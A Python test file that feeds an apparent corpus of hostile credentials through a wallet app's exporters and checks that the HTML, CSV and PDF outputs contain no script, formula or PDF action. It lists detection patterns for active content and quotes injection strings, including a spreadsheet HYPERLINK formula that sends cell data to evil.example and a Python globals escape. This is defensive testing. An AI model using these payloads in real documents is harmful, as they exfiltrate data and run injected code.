"""The export entries of the abuse corpus: imported, exported in every form, and looked at as a program would."""

import csv
import io
import json
import re
import zipfile
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pikepdf
import pypdfium2
import pytest

from conformance.harness import FixedClock
from conftest import shared_folder
from wallet.adapters.replay import ReplayFetcher
from wallet.model.card import Card
from wallet.model.secured import Carrier
from wallet.portfolio.data import PortfolioData
from wallet.portfolio.writers import WRITERS, pdf
from wallet.services.library import Stored
from wallet.services.portfolio import entry_of
from wallet.verification.context import Context
from wallet.verification.inspection import inspect
from wallet.verification.report import Inspected
from wallet.verification.trust import seed

EXPECTED = 5
CANARY = Path("/tmp/abuse-canary")
TICKS = "\u2713\u2714\u2705\u2611"


class Active(HTMLParser):
    """Everything in a page that a browser would run, follow or load."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.policies: list[str] = []
        self.feed(source)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag in ("script", "iframe", "object", "embed", "form", "base", "link", "svg", "video", "audio"):
            self.found.append(f"<{tag}>")
        self.found.extend(f"{tag} {name}" for name in values if name.startswith("on") or name in ("style", "srcset"))
        for name in ("href", "src"):
            value = values.get(name) or "data:image/"
            if not value.startswith(("data:image/", "data:application/octet-stream;base64,")):
                self.found.append(f"{tag} {name}={value[:60]}")
        if values.get("http-equiv") == "Content-Security-Policy":
            self.policies.append(values.get("content") or "")


def _corpus() -> tuple[Path, dict[str, Any]]:
    shared = shared_folder()
    if shared is None or not (shared / "abuse" / "MANIFEST.json").is_file():
        pytest.skip("NOT RUN: the shared abuse corpus is absent (set WALLET_SHARED)")
    root = shared / "abuse"
    return root, json.loads((root / "MANIFEST.json").read_text("utf-8"))


def _stored(inspected: Inspected, number: int) -> Stored:
    report = inspected.report
    while report.record is None and report.items:
        inspected = inspected.items[0]
        report = inspected.report
    card = Card(
        id=str(number),
        title="",
        issuer="",
        issuer_checked=False,
        kind="",
        state=str(report.verdict.state),
        tone=str(report.verdict.tone),
        awarded_on=None,
        expires_on=None,
        checked_at=report.checked_at,
        added_at=report.checked_at,
    )
    return Stored(card, report, inspected.raw, inspected.media_type)


def _portfolio(root: Path, manifest: dict[str, Any], lang: str) -> PortfolioData:
    now = datetime.fromisoformat(manifest["now"])
    trust = json.loads((root / manifest["trust"]).read_text("utf-8"))
    run = Context(
        now=now,
        fetcher=ReplayFetcher(root / manifest["net_map"], FixedClock(now)),
        known_issuers=seed.known_issuers_from(trust),
        replayed=True,
    )
    entries = []
    wanted = [one for one in manifest["entries"] if one["kind"] == "export-check" or one["id"] == "IM05-svg-script"]
    for number, one in enumerate(wanted):
        data = (root / one["file"]).read_bytes()
        inspected = inspect(data, name=one["file"], carrier=Carrier.FILE, context=run)
        assert str(inspected.report.verdict.state) in one["verdict"], one["id"]
        stored = _stored(inspected, number)
        entries.append(
            entry_of(stored, lang=lang, note=next(iter((stored.report.record or _none()).title.values()), ""))
        )
    assert len(entries) >= EXPECTED
    return PortfolioData("", "Dana", "", lang, now, tuple(entries))


def _none() -> Any:
    raise AssertionError("an export entry without a record")


@pytest.mark.parametrize("lang", ["en", "nl"])
def test_exports_of_hostile_credentials(lang: str) -> None:
    root, manifest = _corpus()
    CANARY.unlink(missing_ok=True)
    data = _portfolio(root, manifest, lang)
    made = {form: write(data).data for form, write in WRITERS.items()}

    with zipfile.ZipFile(io.BytesIO(made["zip"])) as archive:
        page = archive.read("portfolio.html").decode()
        assert all("/" not in name.removeprefix("originals/").removeprefix("evidence/") for name in archive.namelist())
    for source in (page, made["html"].decode()):
        active = Active(source)
        assert active.found == []
        assert active.policies
        assert all(policy.startswith("default-src 'none'") for policy in active.policies)
        assert not set(TICKS) & set(source)

    for row in csv.reader(io.StringIO(made["csv"].decode("utf-8-sig"))):
        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]

    for data_of_pdf in (made["pdf"], *(pdf.write_credential(_only(data, number)).data for number in range(EXPECTED))):
        _check_pdf(data_of_pdf)
    # Lines break and hyphenate where they must; the letters are all there.
    letters = re.sub(r"[\s\u00ad\u200b\ufffe-]", "", _text(made["pdf"]))
    for literal in ("getattr(pow,Word('__globals__'))", '=HYPERLINK("https://evil.example/?"&A1', "</script><script>"):
        assert literal in letters
    assert not CANARY.exists()

    for form in ("clr", "elm"):
        assert "proof" not in json.loads(made[form])


def _only(data: PortfolioData, number: int) -> PortfolioData:
    return PortfolioData("", "", "", data.lang, data.made_at, (data.entries[number],))


def _check_pdf(made: bytes) -> None:
    with pikepdf.open(io.BytesIO(made)) as opened:
        for thing in opened.objects:
            if isinstance(thing, pikepdf.Dictionary):
                kinds = {str(thing.get("/S", "")), str(thing.get("/Subtype", ""))}
                assert not kinds & {"/JavaScript", "/Launch", "/URI", "/GoToR", "/SubmitForm", "/RichMedia"}
                assert "/JS" not in thing
                assert "/OpenAction" not in thing
    assert not set(TICKS) & set(_text(made))


def _text(made: bytes) -> str:
    document = pypdfium2.PdfDocument(made)
    try:
        return "".join(page.get_textpage().get_text_bounded() for page in document)
    finally:
        document.close()
